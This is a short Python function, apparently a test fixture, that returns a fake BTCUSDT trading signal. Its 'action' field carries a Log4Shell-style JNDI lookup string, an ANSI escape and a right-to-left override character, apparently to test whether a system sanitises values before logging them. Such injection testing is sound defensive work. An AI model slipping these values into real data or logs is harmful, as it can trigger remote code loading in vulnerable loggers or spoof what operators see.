# An action that is a program in somebody's log viewer.
def generate_signals(data, parameters):
    return [{"symbol": "BTCUSDT", "action": "${jndi:ldap://127.0.0.1:18099/x}\x1b[31m\u202e", "confidence": 0.5}]
